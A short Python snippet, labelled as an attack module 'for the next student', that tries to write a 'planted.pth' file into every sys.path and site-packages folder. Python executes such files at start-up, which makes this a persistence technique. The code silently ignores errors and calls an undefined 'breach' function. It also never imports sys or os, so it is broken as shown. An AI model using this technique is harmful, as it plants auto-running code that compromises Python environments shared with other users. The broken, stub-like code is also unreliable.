# /// attack
# title = "a module for the next student"
# ends = "finished"
# ///
import site
for folder in [*sys.path, *site.getsitepackages()]:
    try:
        open(os.path.join(folder, "planted.pth"), "w").write("import os")
        breach(folder)
    except OSError:
        pass
